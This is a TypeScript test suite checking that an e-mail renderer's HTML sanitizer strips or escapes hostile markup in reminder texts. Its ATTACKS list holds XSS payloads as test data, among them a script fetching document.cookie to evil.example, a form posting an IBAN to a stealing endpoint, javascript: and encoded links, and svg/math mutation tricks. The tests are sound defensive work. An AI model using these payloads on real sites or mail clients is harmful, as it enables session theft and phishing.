import { aCustomer, anAgent, anItem, aSetup, THREE_LEVELS } from '../../test/builders/domain';
import { sanitizeHtmlText } from './html-policy';
import { planReminders } from './plan-reminders';
import { renderEmail } from './render-email';
import type { Customer } from './types';

/** Renders an HTML body for `customer` through the product's `renderEmail`. */
function renderHtml(body: string, customer: Customer = aCustomer()) {
  // The texts are put in after validation, as a setup written into the ERP some other way could hold
  // them: the renderer must be safe whatever validation would say.
  const texts = { it: { subject: 'Estratto conto %Cliente', body, format: 'html' as const } };
  const valid = aSetup({ groupByCustomer: true, levels: THREE_LEVELS });
  const setup = { ...valid, levels: valid.levels.map((level) => ({ ...level, texts })) };
  const items = [
    anItem({ id: 'I1', documentNumber: 'FT 2026/001', documentDate: '2026-01-10', residual: 5000 }),
  ];
  const today = '2026-03-15';
  const [communication] = planReminders({
    setup,
    today,
    customers: [customer],
    agents: [anAgent()],
    items,
    ledger: [],
  }).communications;
  if (communication === undefined) throw new Error('nothing planned');
  return renderEmail({ communication, setup, customer, agents: new Map([['A1', anAgent()]]), today });
}

/** The administrator's part of a rendered body: inside our own wrapper `<div style=…>`. */
const inner = (html: string) => html.slice(html.indexOf('>') + 1, html.lastIndexOf('</div>'));

/** Attacks, each with what must not reach the customer. */
const ATTACKS: readonly (readonly [string, string, RegExp])[] = [
  [
    'script',
    '<p>Gentile %Cliente</p><script>fetch("https://evil.example/?c="+document.cookie)</script>',
    /<script|evil\.example/i,
  ],
  ['script, upper case and spaced', '<SCRIPT >alert(1)</SCRIPT ><p>ok</p>', /script|alert/i],
  [
    'style element with remote url()',
    '<style>p{background:url(https://t.example/x.png)}</style><p>x</p>',
    /<style|url\(|t\.example/i,
  ],
  [
    'style attribute with remote url()',
    '<p style="background-image:url(https://t.example/x.png)">x</p>',
    /style=|url\(|t\.example/i,
  ],
  [
    'remote tracking image',
    '<img src="https://track.example/p.gif?c=%Cliente" width="1" height="1">',
    /<img|track\.example/i,
  ],
  ['data: image', '<img src="data:image/png;base64,iVBORw0KGgo=">', /<img|data:/i],
  [
    'form and inputs',
    '<form action="https://evil.example/steal" method="post"><input name="iban"><button>Paga</button></form>',
    /<form|<input|<button|evil\.example/i,
  ],
  ['javascript: link', '<a href="javascript:alert(1)">paga</a>', /javascript|href/i],
  [
    'entity-encoded javascript: link',
    '<a href="&#106;&#x61;vascript&colon;alert(1)">paga</a>',
    /javascript|alert|href/i,
  ],
  [
    'javascript: link with a tab and leading spaces',
    '<a href="  java\tscript:alert(1)">paga</a>',
    /script|href/i,
  ],
  [
    'data: link',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">paga</a>',
    /data:|href/i,
  ],
  [
    'vbscript: and protocol-relative links',
    '<a href="vbscript:msgbox(1)">a</a><a href="//evil.example">b</a>',
    /vbscript|evil|href/i,
  ],
  [
    'event handler attributes',
    '<p onclick="alert(1)" onmouseover=alert(2)>x</p><a href="https://ok.example" onfocus="alert(3)">y</a>',
    /\son\w+|alert/i,
  ],
  [
    'svg tricks',
    '<svg><script>alert(1)</script><a xlink:href="javascript:alert(2)"><text>x</text></a></svg><svg/onload=alert(3)>',
    /svg|alert|script/i,
  ],
  [
    'math tricks',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    /math|img|alert|onerror/i,
  ],
  [
    'iframe, object and embed',
    '<iframe src="https://evil.example"></iframe><object data="x.swf"></object><embed src="x.swf">',
    /iframe|object|embed|evil|swf/i,
  ],
  ['unclosed tags', '<p>ok<script>alert(1)', /script|alert/i],
  ['unclosed attribute', '<a href="https://ok.example onclick="alert(1)">x', /alert/i],
  ['comment hiding markup', '<!-- <script>alert(1)</script> --><p>ok</p>', /<!--|script|alert/i],
  [
    'conditional comment',
    '<!--[if mso]><img src="https://track.example/p.gif"><![endif]--><p>ok</p>',
    /<!--|\[if|img|track/i,
  ],
  [
    'meta refresh and base',
    '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">',
    /meta|base|evil/i,
  ],
  ['nested script split', '<scr<script>ipt>alert(1)</script>', /<script|<scr/i],
];

describe.each(ATTACKS)('%s', (_, body, forbidden) => {
  test('is gone from the rendered e-mail', () => {
    expect(inner(renderHtml(body).html)).not.toMatch(forbidden);
  });
  test('is gone from the saved text', () => {
    const saved = sanitizeHtmlText(body);
    expect(saved.text).not.toMatch(forbidden);
    // Saving what was saved changes nothing more.
    expect(sanitizeHtmlText(saved.text)).toEqual({ text: saved.text, removed: [] });
  });
});

test('what is removed is listed, each once, in the order met', () => {
  const { removed } = sanitizeHtmlText(
    '<!-- x --><p onclick="a()" style="color:red">x</p><p onclick="b()">y</p><script>z</script><img src="https://t.example/p.gif"><a href="javascript:x">l</a>',
  );
  expect(removed).toEqual([
    { kind: 'attribute', element: 'p', attribute: 'onclick' },
    { kind: 'attribute', element: 'p', attribute: 'style' },
    { kind: 'element', element: 'script' },
    { kind: 'element', element: 'img' },
    { kind: 'link', element: 'a', attribute: 'href' },
    { kind: 'comment' },
  ]);
});

test('allowed markup and placeholders survive the filter as written', () => {
  const body =
    '<h2>Estratto conto</h2><p>Gentile <strong>%Cliente</strong>,<br />le partite:</p>%Partita<ul><li><em>Totale</em>: %Importo</li></ul>' +
    '<table border="1"><tbody><tr><td colspan="2" title="%Cliente">x</td></tr></tbody></table><p><a href="https://pay.example/?iban=%IBAN" title="Paga">paga</a> <a href="mailto:amministrazione@example.com">scrivi</a></p><hr />';
  expect(sanitizeHtmlText(body)).toEqual({ text: body, removed: [] });
});

test('our items table and amounts reach the e-mail unchanged inside an HTML text', () => {
  const table = renderHtml('%Partita').html;
  const wrapped = renderHtml('<p>Le partite:</p>%Partita<p>Totale: <b>%Importo</b></p>').html;
  const tableOnly = table.slice(table.indexOf('<table'), table.lastIndexOf('</table>') + '</table>'.length);
  expect(tableOnly).toContain('text-align:right;white-space:nowrap">50,00\u00a0€</td>');
  expect(wrapped).toContain(`<p>Le partite:</p>${tableOnly}<p>Totale: <b>50,00\u00a0€</b></p>`);
});

describe('placeholders inside tags', () => {
  const hostile = aCustomer({ name: '"><script>alert(1)</script><a href="javascript:x' });

  test('a value in text or in an attribute is HTML-escaped; an unquoted attribute comes out quoted', () => {
    const html = renderHtml(
      '<p title=%Cliente>Gentile %Cliente</p><td title="%Cliente">x</td>',
      hostile,
    ).html;
    const escaped = '&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;&lt;a href=&quot;javascript:x';
    expect(html).toContain(`<p title="${escaped}">Gentile ${escaped}</p>`);
    expect(html).not.toContain('<script');
  });

  test('a value after a literal allowed scheme stays in the link; a link that starts with a placeholder is removed', () => {
    const customer = aCustomer({ name: 'javascript:alert(1)' });
    const html = renderHtml(
      '<a href="https://pay.example/?c=%Cliente">paga</a><a href="%Cliente">x</a><a href=" %Cliente">y</a>',
      customer,
    ).html;
    expect(html).toContain('<a href="https://pay.example/?c=javascript:alert(1)">paga</a><a>x</a><a>y</a>');
  });

  test('a placeholder written as an element or attribute name is removed with what it names, never filled into markup', () => {
    const html = renderHtml('<td %Cliente>y</td><td%Cliente>z</td><p %Cliente="x">w</p>', hostile).html;
    expect(html).not.toContain('<script');
    expect(html).not.toContain('javascript');
  });
});
